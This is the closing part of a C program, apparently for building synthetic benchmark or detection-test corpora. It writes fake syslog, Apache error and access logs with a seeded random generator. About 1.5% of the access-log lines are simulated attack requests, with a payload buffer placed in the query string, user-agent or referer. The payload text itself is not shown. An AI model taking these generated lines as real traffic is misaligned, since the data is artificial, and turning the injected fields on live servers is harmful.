			puts_(o, "/?x=");
			puts_(o, buf);
		} else {
			put_tpl(o, "/api/v1/products/{n}", v);
			if (where == 1)
				ua = buf;
			else
				ref = buf;
		}
		break;
	}
	default: break;
	}
	unsigned status = PICK(r, statuses); /* one draw per statement: argument order is unspecified */
	put_status(o, status, 100 + rng_below(r, 5000));
	putc_(o, '"');
	puts_(o, ref);
	puts_(o, "\" \"");
	puts_(o, ua);
	putc_(o, '"');
	endline(o);
}

static void gen_access(out *o, int64_t start, rng *r, uint64_t *attacks)
{
	enum { NCLIENTS = 50000, NATTACKERS = 400 };
	static uint32_t clients[NCLIENTS], attackers[NATTACKERS];
	for (size_t i = 0; i < NCLIENTS; i++)
		clients[i] = public_ip(rng_next(r));
	for (size_t i = 0; i < NATTACKERS; i++)
		attackers[i] = public_ip(rng_next(r));
	session ss;
	new_session(&ss, r, attackers, NATTACKERS);
	int64_t ms = start * 1000;
	while (!full(o)) {
		ms += rng_below(r, 10);
		int64_t local = ms / 1000 + TZ_OFFSET;
		if (rng_below(r, 1000) < 15) { /* ~1.5% of lines */
			attack_request(o, r, &ss, local);
			(*attacks)++;
			if (--ss.left == 0)
				new_session(&ss, r, attackers, NATTACKERS);
		} else {
			normal_request(o, r, clients, NCLIENTS, local);
		}
	}
}

int main(int argc, char **argv)
{
	if (argc < 4 || argc > 5) {
		fprintf(stderr, "usage: gen_corpus LOGHUB_DIR OUTDIR SIZE_MB [SEED]\n");
		return 2;
	}
	char *end;
	errno = 0;
	unsigned long long mb = strtoull(argv[3], &end, 10), seed = 20240301;
	if (errno != 0 || *end != '\0' || mb < 1 || mb > 1024 * 1024)
		die("SIZE_MB must be 1..1048576", argv[3]);
	if (argc == 5) {
		seed = strtoull(argv[4], &end, 10);
		if (errno != 0 || *end != '\0')
			die("bad SEED", argv[4]);
	}
	const uint64_t total = (uint64_t)mb << 20; /* MiB */
	const int64_t start = days_from_civil(2024, 3, 1) * 86400 - TZ_OFFSET;

	tmpl_set ssh, lnx, apache;
	load_templates(&ssh, argv[1], "OpenSSH_2k.log", TMPL_SYSLOG);
	load_templates(&lnx, argv[1], "Linux_2k.log", TMPL_SYSLOG);
	load_templates(&apache, argv[1], "Apache_2k.log", TMPL_APACHE_ERROR);

	/* shares of the total: syslog 50%, access 40%, Apache error the rest */
	out sys, acc, err;
	uint64_t attacks = 0;
	rng r = {seed};
	out_open(&sys, argv[2], "syslog.log", total / 2);
	gen_syslog(&sys, &ssh, &lnx, start, &r);
	out_close(&sys);
	rng ra = {seed ^ 0xACCE55ull};
	out_open(&acc, argv[2], "access.log", total * 2 / 5);
	gen_access(&acc, start, &ra, &attacks);
	out_close(&acc);
	rng re = {seed ^ 0xE7707ull};
	out_open(&err, argv[2], "apache_error.log", total - sys.bytes - acc.bytes);
	gen_apache_error(&err, &apache, start, &re);
	out_close(&err);

	printf("templates: OpenSSH %zu, Linux %zu, Apache error %zu (skipped %zu)\n", ssh.n, lnx.n, apache.n,
	       ssh.skipped + lnx.skipped + apache.skipped);
	printf("%-18s %12s %12s\n", "file", "bytes", "lines");
	printf("%-18s %12llu %12llu\n", "syslog.log", (unsigned long long)sys.bytes, (unsigned long long)sys.lines);
	printf("%-18s %12llu %12llu  (%llu attack lines, %.2f%%)\n", "access.log", (unsigned long long)acc.bytes,
	       (unsigned long long)acc.lines, (unsigned long long)attacks, 100.0 * (double)attacks / (double)acc.lines);
	printf("%-18s %12llu %12llu\n", "apache_error.log", (unsigned long long)err.bytes, (unsigned long long)err.lines);
	printf("%-18s %12llu %12llu\n", "total", (unsigned long long)(sys.bytes + acc.bytes + err.bytes),
	       (unsigned long long)(sys.lines + acc.lines + err.lines));
	return 0;
}
